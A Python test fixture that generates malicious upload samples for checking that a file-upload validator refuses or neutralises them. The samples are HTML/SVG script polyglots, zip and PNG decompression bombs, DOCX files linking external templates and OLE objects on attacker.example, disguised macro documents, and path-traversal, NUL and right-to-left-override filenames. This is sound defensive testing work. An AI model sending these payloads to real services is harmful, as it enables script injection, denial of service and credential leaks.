"""A corpus of malicious and malformed uploads, built into a directory at test time (nothing binary is committed).

Each `Sample` names the file as a browser would send it and says whether it must be refused (`refuse=True`) or
may be accepted provided it is neutralised (stored under a server-chosen path, served only as an attachment).
`zip_bomb` marks the samples whose members must never be inflated while checking them.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

from jinxuan.demo.files import tiny_docx, tiny_pdf

SIZE_LIMIT = 20 * 1024 * 1024  # the gz-dianshu-2025 attachments' limit (max_size_kb 20480)
BOMB_BYTES = 64 * 1024 * 1024  # what one bomb member inflates to
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/applications').then(r=>r.text()).then(alert)</script>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>")
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Sample:
    id: str
    filename: str  # as sent by the client
    build: Callable[[str], bytes] = None  # the sample's id → content (unique per sample, so none is a duplicate)
    refuse: bool = True
    zip_bomb: bool = False
    sparse_size: int = 0  # > 0: written as a sparse file of this size (the huge upload)

    @property
    def suffix(self) -> str:
        return Path(self.filename.replace("\x00", "")).suffix.lower()


def pdf(tag: str) -> bytes:
    return tiny_pdf(tag)


def jpeg(tag: str, size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (20 + len(tag) % 200, 90, 160)).save(out, "JPEG", comment=tag.encode())
    return out.getvalue()


def docx_parts(tag: str) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(tiny_docx(tag))) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def zip_of(parts: dict[str, bytes], big: dict[str, int] | None = None) -> bytes:
    """A zip of `parts`, plus members of `big` (name → size) inflating to that many spaces (a real deflate bomb)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
        for name, size in (big or {}).items():
            info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
            info.compress_type, info._compresslevel = zipfile.ZIP_DEFLATED, 9  # the best ratio deflate gives
            with zf.open(info, "w", force_zip64=True) as fh:
                block = b" " * (1024 * 1024)
                for _ in range(size // len(block)):
                    fh.write(block)
    return out.getvalue()


# -- builders --------------------------------------------------------------------------------------------------


def polyglot_jpeg_html(tag: str) -> bytes:
    data = jpeg(tag)
    segment = b"<html><script>alert(1)</script></html>"
    com = b"\xff\xfe" + struct.pack(">H", len(segment) + 2) + segment
    return data[:2] + com + data[2:]  # a comment segment right after SOI: still a valid JPEG


def polyglot_jpeg_trailing_html(tag: str) -> bytes:
    return jpeg(tag) + b"\n" + HTML * 40  # markup after the image's end, past any head window


def polyglot_pdf_html(tag: str) -> bytes:
    return b"%PDF-1.4\n%<html><body><script>alert(1)</script></body></html>\n" + pdf(tag)[9:]


def html(tag: str) -> bytes:
    return HTML + f"<!-- {tag} --></body></html>".encode()


def html_utf16(tag: str) -> bytes:
    return "\ufeff".encode("utf-16-le") + html(tag).decode().encode("utf-16-le")


def svg(tag: str) -> bytes:
    return SVG.replace(b"</svg>", f"<!-- {tag} --></svg>".encode())


def docx_bomb(tag: str) -> bytes:
    parts = docx_parts(tag)
    del parts["word/document.xml"]  # replaced by a member that inflates to BOMB_BYTES
    return zip_of(parts, {"word/document.xml": BOMB_BYTES})


def xlsx_bomb(tag: str) -> bytes:
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                               b'content-types"/>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook><!-- {tag} --></workbook>'.encode(),
    }
    return zip_of(parts, {"xl/worksheets/sheet1.xml": BOMB_BYTES})


def docx_many_entries(tag: str) -> bytes:
    parts = docx_parts(tag)
    parts.update({f"word/media/p{i}.xml": b"" for i in range(3000)})
    return zip_of(parts)


def docx_nested_zip(tag: str) -> bytes:
    parts = docx_parts(tag)
    parts["word/media/archive.zip"] = zip_of({"inner.txt": tag.encode()}, {"inner/bomb.bin": 4 * 1024 * 1024})
    return zip_of(parts)


def docx_external_template(tag: str) -> bytes:
    parts = docx_parts(tag)
    parts["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">'
        f'<Relationship Id="rId1" Type="{OFFICE_REL}/attachedTemplate" '
        f'Target="http://attacker.example/{tag}.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    return zip_of(parts)


def docx_external_ole(tag: str) -> bytes:
    parts = docx_parts(tag)
    rels = parts["word/_rels/document.xml.rels"].decode()
    rels = rels.replace("</Relationships>", f'<Relationship Id="rIdX9" Type="{OFFICE_REL}/oleObject" '
                                            f'Target="\\\\attacker.example\\share\\{tag}.doc" TargetMode="External"/>'
                                            "</Relationships>")
    parts["word/_rels/document.xml.rels"] = rels.encode()
    return zip_of(parts)


def docm_as_docx(tag: str) -> bytes:
    parts = docx_parts(tag)
    types = parts["[Content_Types].xml"].decode().replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml")
    parts["[Content_Types].xml"] = types.encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + tag.encode() + b"\x00" * 512
    return zip_of(parts)


def docm_hidden_macro(tag: str) -> bytes:
    """The macro part under an innocent name, found only through its relationship type."""
    parts = docx_parts(tag)
    rels = parts["word/_rels/document.xml.rels"].decode()
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdV1" '
                        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                        'Target="media/data.bin"/></Relationships>')
    parts["word/_rels/document.xml.rels"] = rels.encode()
    parts["word/media/data.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + tag.encode() + b"\x00" * 512
    return zip_of(parts)


def png_bomb(tag: str) -> bytes:
    """A PNG header declaring 100,000 × 100,000 pixels (the data would inflate to ~30 GB)."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * (1024 * 1024), 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"tEXt", b"c\x00" + tag.encode())
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def jpeg_huge_exif(tag: str) -> bytes:
    data = jpeg(tag)
    body = b"Exif\x00\x00" + (b"MM\x00\x2a\x00\x00\x00\x08" + b"\x00" * 65000)[:65000]
    app1 = b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
    return data[:2] + app1 * 100 + data[2:]  # 6.5 MB of EXIF segments


def truncated_pdf(tag: str) -> bytes:
    return pdf(tag)[: len(pdf(tag)) // 2]


def empty(tag: str) -> bytes:
    return b""


def huge(tag: str) -> bytes:
    return b"%PDF-1.4\n%" + tag.encode() + b"\n"  # the head; the file is then extended sparsely past the limit


SAMPLES: list[Sample] = [
    # polyglots
    Sample("polyglot-jpeg-html", "现场照片.jpg", polyglot_jpeg_html),
    Sample("polyglot-pdf-html", "证明.pdf", polyglot_pdf_html),
    Sample("jpeg-trailing-html", "照片.jpg", polyglot_jpeg_trailing_html, refuse=False),
    # active content under a document or image name
    *[Sample(f"html-as-{ext}", f"材料.{ext}", html) for ext in ("pdf", "jpg", "png", "docx")],
    *[Sample(f"svg-as-{ext}", f"图示.{ext}", svg) for ext in ("pdf", "jpg", "png", "docx")],
    Sample("html-utf16-as-pdf", "说明.pdf", html_utf16),
    Sample("svg-image", "logo.svg", svg),
    Sample("html-as-html", "index.html", html),
    # archives
    Sample("docx-zip-bomb", "方案书.docx", docx_bomb, zip_bomb=True),
    Sample("xlsx-zip-bomb", "数据.xlsx", xlsx_bomb, zip_bomb=True),
    Sample("docx-many-entries", "方案书（多文件）.docx", docx_many_entries, zip_bomb=True),
    Sample("docx-nested-zip", "方案书（嵌套）.docx", docx_nested_zip, zip_bomb=True),
    Sample("docx-external-template", "模板.docx", docx_external_template, zip_bomb=True),
    Sample("docx-external-ole", "链接对象.docx", docx_external_ole, zip_bomb=True),
    Sample("docm-as-docx", "宏.docx", docm_as_docx, zip_bomb=True),
    Sample("docm-hidden-macro", "宏（隐藏）.docx", docm_hidden_macro, zip_bomb=True),
    # images
    Sample("png-decompression-bomb", "大图.png", png_bomb),
    Sample("jpeg-huge-exif", "照片（EXIF）.jpg", jpeg_huge_exif, refuse=False),
    # names (harmless content: accepted only if the name is neutralised)
    Sample("name-traversal", "../../etc/passwd.pdf", pdf, refuse=False),
    Sample("name-absolute", "/etc/cron.d/job.pdf", pdf, refuse=False),
    Sample("name-windows-traversal", "..\\..\\Windows\\win.ini.pdf", pdf, refuse=False),
    Sample("name-nul", "report.pdf\x00.html", pdf, refuse=False),
    Sample("name-rtl-override", "\u202efdp.exe", pdf),  # shows as "exe.pdf"; really .exe
    Sample("name-rtl-inside", "年报\u202eftp.pdf", pdf, refuse=False),
    Sample("name-overlong-cjk", "案" * 300 + ".pdf", pdf, refuse=False),
    Sample("name-overlong-ascii", "a" * 600 + ".pdf", pdf, refuse=False),  # the part's headers stay < 1 KB
    Sample("name-reserved-con", "CON.pdf", pdf, refuse=False),
    Sample("name-reserved-com1", "com1.pdf", pdf, refuse=False),
    Sample("name-dotfile", ".htaccess", pdf),
    Sample("name-trailing-dots", "证明.pdf. . .", pdf, refuse=False),
    # size and damage
    Sample("huge", "扫描件.pdf", huge, sparse_size=SIZE_LIMIT + 1024 * 1024),
    Sample("empty", "空.pdf", empty),
    Sample("truncated-pdf", "截断.pdf", truncated_pdf, refuse=False),
]


def build(directory: Path) -> dict[str, Path]:
    """Write every sample into `directory`; returns sample id → path (file names there are the ids)."""
    directory.mkdir(parents=True, exist_ok=True)
    paths = {}
    for sample in SAMPLES:
        path = directory / sample.id
        path.write_bytes(sample.build(sample.id))
        if sample.sparse_size:
            with open(path, "r+b") as fh:
                fh.truncate(sample.sparse_size)
        paths[sample.id] = path
    return paths
